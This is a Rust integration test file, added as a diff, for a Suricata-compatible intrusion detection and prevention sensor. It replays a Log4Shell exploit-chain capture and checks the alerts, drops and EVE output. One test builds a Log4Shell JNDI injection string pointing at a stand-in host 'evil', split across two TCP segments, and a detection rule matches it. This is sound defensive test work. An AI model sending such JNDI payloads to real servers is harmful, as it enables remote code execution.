@@ -1,0 +1,388 @@
+//! The detection engine on the real binary: ET Open's Log4Shell rules on the shared
+//! exploit-chain capture raise the alerts Suricata 7 raises (sids, addresses, ports); in
+//! prevention the exploit flow is dropped from the exploit packet on while everything else
+//! is forwarded in order; a content split across two TCP segments matches (plain, VLAN,
+//! IPv6); EVE records carry Suricata's fields with the capture's timestamps.
+
+use std::collections::BTreeSet;
+use std::net::IpAddr;
+use std::path::{Path, PathBuf};
+
+use etherparse::{NetSlice, PacketBuilder, SlicedPacket, TransportSlice};
+use testkit::pcap;
+use testkit::process::replay;
+
+const SENSOR: &str = env!("CARGO_BIN_EXE_sensor");
+
+fn shared(rel: &str) -> PathBuf {
+    let p = PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+        .join("../../shared/data")
+        .join(rel);
+    assert!(
+        p.exists(),
+        "{} is missing: CI must have ../shared beside the clone",
+        p.display()
+    );
+    p
+}
+
+/// The enabled ET Open rules with sids in `range`, optionally with `alert` turned into `drop`.
+fn et_rules(dir: &Path, range: std::ops::RangeInclusive<u32>, drop: bool) -> PathBuf {
+    let mut out = String::new();
+    for entry in std::fs::read_dir(shared("et-open")).unwrap() {
+        let path = entry.unwrap().path();
+        if path.extension().is_none_or(|e| e != "rules") {
+            continue;
+        }
+        for line in std::fs::read_to_string(&path).unwrap().lines() {
+            let Some(sid) = line
+                .split("sid:")
+                .nth(1)
+                .and_then(|s| s.split(';').next())
+                .and_then(|s| s.trim().parse::<u32>().ok())
+            else {
+                continue;
+            };
+            if line.starts_with("alert ") && range.contains(&sid) {
+                let line = if drop {
+                    line.replacen("alert ", "drop ", 1)
+                } else {
+                    line.to_owned()
+                };
+                out.push_str(&line);
+                out.push('\n');
+            }
+        }
+    }
+    let path = dir.join("selected.rules");
+    std::fs::write(&path, out).unwrap();
+    path
+}
+
+fn alerts(eve: &Path) -> Vec<serde_json::Value> {
+    std::fs::read_to_string(eve)
+        .unwrap()
+        .lines()
+        .map(|l| serde_json::from_str::<serde_json::Value>(l).unwrap())
+        .filter(|e| e["event_type"] == "alert")
+        .collect()
+}
+
+type Endpoint = (IpAddr, u16);
+
+fn endpoints(frame: &[u8]) -> Option<(Endpoint, Endpoint)> {
+    let s = SlicedPacket::from_ethernet(frame).ok()?;
+    let (src, dst): (IpAddr, IpAddr) = match s.net? {
+        NetSlice::Ipv4(v4) => (
+            v4.header().source_addr().into(),
+            v4.header().destination_addr().into(),
+        ),
+        NetSlice::Ipv6(v6) => (
+            v6.header().source_addr().into(),
+            v6.header().destination_addr().into(),
+        ),
+    };
+    match s.transport? {
+        TransportSlice::Tcp(t) => Some(((src, t.source_port()), (dst, t.destination_port()))),
+        TransportSlice::Udp(u) => Some(((src, u.source_port()), (dst, u.destination_port()))),
+        _ => None,
+    }
+}
+
+const CLIENT: &str = "172.16.238.1";
+const VICTIM: &str = "172.16.238.10";
+
+#[test]
+fn log4shell_rules_raise_the_alerts_suricata_raises() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = et_rules(dir.path(), 2034647..=2034811, false);
+    let eve = dir.path().join("eve.json");
+    let out = dir.path().join("out.pcap");
+    let input = shared("pcaps/log4shell-exploit-chain.pcap");
+    replay(
+        SENSOR,
+        &input,
+        "detection",
+        &out,
+        &[
+            "--rules",
+            rules.to_str().unwrap(),
+            "--eve",
+            eve.to_str().unwrap(),
+        ],
+    );
+    let got: BTreeSet<(u64, String, u64, String, u64)> = alerts(&eve)
+        .iter()
+        .map(|a| {
+            (
+                a["alert"]["signature_id"].as_u64().unwrap(),
+                a["src_ip"].as_str().unwrap().to_owned(),
+                a["src_port"].as_u64().unwrap(),
+                a["dest_ip"].as_str().unwrap().to_owned(),
+                a["dest_port"].as_u64().unwrap(),
+            )
+        })
+        .collect();
+    // Suricata 7.0 (`suricata -k none -r log4shell-exploit-chain.pcap -S <same rules>`)
+    // raises exactly these two for this sid range, once each.
+    let want: BTreeSet<_> = [2034659u64, 2034781]
+        .into_iter()
+        .map(|sid| (sid, CLIENT.to_owned(), 1984, VICTIM.to_owned(), 8080))
+        .collect();
+    assert_eq!(got, want);
+    assert_eq!(alerts(&eve).len(), 2);
+}
+
+#[test]
+fn prevention_drops_the_exploit_flow_and_forwards_the_rest_in_order() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = et_rules(dir.path(), 2034647..=2034811, true);
+    let eve = dir.path().join("eve.json");
+    let out = dir.path().join("out.pcap");
+    let input = shared("pcaps/log4shell-exploit-chain.pcap");
+    let run = replay(
+        SENSOR,
+        &input,
+        "prevention",
+        &out,
+        &[
+            "--rules",
+            rules.to_str().unwrap(),
+            "--eve",
+            eve.to_str().unwrap(),
+        ],
+    );
+    let frames = pcap::read(&input);
+    let first_alert = alerts(&eve)
+        .iter()
+        .map(|a| a["pcap_cnt"].as_u64().unwrap() as usize)
+        .min()
+        .expect("an alert");
+    assert!(alerts(&eve)
+        .iter()
+        .all(|a| a["alert"]["action"] == "blocked"));
+    let exploit: (IpAddr, u16) = (VICTIM.parse().unwrap(), 8080);
+    let attacker: (IpAddr, u16) = (CLIENT.parse().unwrap(), 1984);
+    let in_flow = |f: &[u8]| {
+        endpoints(f)
+            .is_some_and(|(a, b)| (a, b) == (attacker, exploit) || (a, b) == (exploit, attacker))
+    };
+    let expected: Vec<&Vec<u8>> = frames
+        .iter()
+        .enumerate()
+        .filter(|(i, f)| !(i + 1 >= first_alert && in_flow(f)))
+        .map(|(_, f)| f)
+        .collect();
+    let forwarded = pcap::read(&out);
+    assert!(
+        expected.len() < frames.len(),
+        "the exploit flow had packets to drop"
+    );
+    assert_eq!(forwarded.len(), expected.len());
+    assert!(
+        forwarded.iter().zip(&expected).all(|(a, b)| a == *b),
+        "forwarded stream differs"
+    );
+    let stats = run.final_stats();
+    assert_eq!(
+        stats["engine"]["verdict_drops"].as_u64().unwrap() as usize,
+        frames.len() - expected.len()
+    );
+}
+
+/// A TCP connection (handshake, then `segments` from client to server) as frames.
+fn tcp_conversation(vlan: Option<u16>, v6: bool, segments: &[&[u8]]) -> Vec<Vec<u8>> {
+    let (c, s): (IpAddr, IpAddr) = if v6 {
+        ("fd00::1".parse().unwrap(), "fd00::2".parse().unwrap())
+    } else {
+        ("10.1.1.1".parse().unwrap(), "10.2.2.2".parse().unwrap())
+    };
+    let frame = |from_client: bool, seq: u32, ack: u32, syn: bool, payload: &[u8]| {
+        let (src, dst, sp, dp) = if from_client {
+            (c, s, 40000, 80)
+        } else {
+            (s, c, 80, 40000)
+        };
+        let eth = PacketBuilder::ethernet2([2, 0, 0, 0, 0, 1], [2, 0, 0, 0, 0, 2]);
+        let mut out = Vec::new();
+        macro_rules! finish {
+            ($ip:expr) => {{
+                let mut t = $ip.tcp(sp, dp, seq, 65535);
+                if syn {
+                    t = t.syn();
+                }
+                if ack != 0 {
+                    t = t.ack(ack);
+                }
+                t.write(&mut out, payload).unwrap();
+            }};
+        }
+        match (src, dst, vlan) {
+            (IpAddr::V4(a), IpAddr::V4(b), None) => finish!(eth.ipv4(a.octets(), b.octets(), 64)),
+            (IpAddr::V4(a), IpAddr::V4(b), Some(v)) => finish!(eth
+                .single_vlan(etherparse::VlanId::try_new(v).unwrap())
+                .ipv4(a.octets(), b.octets(), 64)),
+            (IpAddr::V6(a), IpAddr::V6(b), None) => finish!(eth.ipv6(a.octets(), b.octets(), 64)),
+            (IpAddr::V6(a), IpAddr::V6(b), Some(v)) => finish!(eth
+                .single_vlan(etherparse::VlanId::try_new(v).unwrap())
+                .ipv6(a.octets(), b.octets(), 64)),
+            _ => unreachable!(),
+        }
+        out
+    };
+    let mut frames = vec![
+        frame(true, 100, 0, true, b""),
+        frame(false, 500, 101, true, b""),
+        frame(true, 101, 501, false, b""),
+    ];
+    let mut seq = 101;
+    for seg in segments {
+        frames.push(frame(true, seq, 501, false, seg));
+        seq += seg.len() as u32;
+        frames.push(frame(false, 501, seq, false, b""));
+    }
+    frames
+}
+
+#[test]
+fn content_split_across_two_segments_matches_plain_vlan_and_ipv6() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("split.rules");
+    std::fs::write(
+        &rules,
+        "alert tcp any any -> any 80 (msg:\"split jndi\"; flow:established,to_server; content:\"${jndi:ldap://\"; nocase; classtype:attempted-admin; sid:1000001; rev:1;)\n",
+    )
+    .unwrap();
+    for (vlan, v6) in [
+        (None, false),
+        (Some(42), false),
+        (None, true),
+        (Some(7), true),
+    ] {
+        let frames = tcp_conversation(
+            vlan,
+            v6,
+            &[b"GET /?x=${jn", b"di:LDAP://evil/a HTTP/1.1\r\n\r\n"],
+        );
+        let input = dir.path().join("split.pcap");
+        pcap::write(&input, &frames);
+        let eve = dir.path().join("eve.json");
+        replay(
+            SENSOR,
+            &input,
+            "detection",
+            &dir.path().join("out.pcap"),
+            &[
+                "--rules",
+                rules.to_str().unwrap(),
+                "--eve",
+                eve.to_str().unwrap(),
+            ],
+        );
+        let a = alerts(&eve);
+        assert_eq!(a.len(), 1, "vlan {vlan:?} v6 {v6}: {a:?}");
+        assert_eq!(a[0]["alert"]["signature_id"], 1000001);
+        assert_eq!(
+            a[0]["pcap_cnt"], 6,
+            "the alert is on the segment that completes the match"
+        );
+
+        // Each half alone never matches.
+        let halves = tcp_conversation(vlan, v6, &[b"GET /?x=${jn"]);
+        pcap::write(&input, &halves);
+        replay(
+            SENSOR,
+            &input,
+            "detection",
+            &dir.path().join("out.pcap"),
+            &[
+                "--rules",
+                rules.to_str().unwrap(),
+                "--eve",
+                eve.to_str().unwrap(),
+            ],
+        );
+        assert!(alerts(&eve).is_empty());
+    }
+}
+
+#[test]
+fn eve_alert_records_use_suricata_fields_and_capture_time() {
+    let dir = tempfile::tempdir().unwrap();
+    let rules = dir.path().join("http.rules");
+    std::fs::write(
+        &rules,
+        "alert http any any -> any any (msg:\"UA curl\"; flow:to_server; http.user_agent; content:\"curl/\"; startswith; http.host; content:\"example.com\"; classtype:policy-violation; sid:1000002; rev:3;)\n",
+    )
+    .unwrap();
+    let frames = tcp_conversation(
+        None,
+        false,
+        &[b"GET /p HTTP/1.1\r\nHost: Example.com:8080\r\nUser-Agent: curl/8.0\r\n\r\n"],
+    );
+    let input = dir.path().join("http.pcap");
+    pcap::write(&input, &frames);
+    let eve = dir.path().join("eve.json");
+    replay(
+        SENSOR,
+        &input,
+        "detection",
+        &dir.path().join("out.pcap"),
+        &[
+            "--rules",
+            rules.to_str().unwrap(),
+            "--eve",
+            eve.to_str().unwrap(),
+        ],
+    );
+    let text = std::fs::read_to_string(&eve).unwrap();
+    let line = text.lines().next().expect("one alert");
+    let keys: Vec<&str> = [
+        "\"timestamp\"",
+        "\"flow_id\"",
+        "\"pcap_cnt\"",
+        "\"in_iface\"",
+        "\"event_type\"",
+        "\"src_ip\"",
+        "\"src_port\"",
+        "\"dest_ip\"",
+        "\"dest_port\"",
+        "\"proto\"",
+        "\"app_proto\"",
+        "\"alert\":{",
+        "\"http\":{",
+    ]
+    .into_iter()
+    .collect();
+    let positions: Vec<usize> = keys
+        .iter()
+        .map(|k| {
+            line.find(k)
+                .unwrap_or_else(|| panic!("{k} missing: {line}"))
+        })
+        .collect();
+    assert!(
+        positions.windows(2).all(|w| w[0] < w[1]),
+        "field order: {line}"
+    );
+    let a: serde_json::Value = serde_json::from_str(line).unwrap();
+    // testkit::pcap::write stamps frame i at 1_700_000_000 s + i us.
+    assert_eq!(a["timestamp"], "2023-11-14T22:13:20.000003+0000");
+    assert_eq!(a["pcap_cnt"], 4);
+    assert_eq!(a["in_iface"], "net_pcap_in");
+    assert_eq!(a["proto"], "TCP");
+    assert_eq!(a["app_proto"], "http");
+    assert_eq!(a["alert"]["action"], "allowed");
+    assert_eq!(a["alert"]["gid"], 1);
+    assert_eq!(a["alert"]["rev"], 3);
+    assert_eq!(a["alert"]["signature"], "UA curl");
+    assert_eq!(
+        a["alert"]["category"],
+        "Potential Corporate Privacy Violation"
+    );
+    assert_eq!(a["alert"]["severity"], 1);
+    assert_eq!(a["http"]["hostname"], "example.com");
+    assert_eq!(a["http"]["url"], "/p");
+    assert_eq!(a["http"]["http_user_agent"], "curl/8.0");
+    assert_eq!(a["http"]["http_method"], "GET");
+}
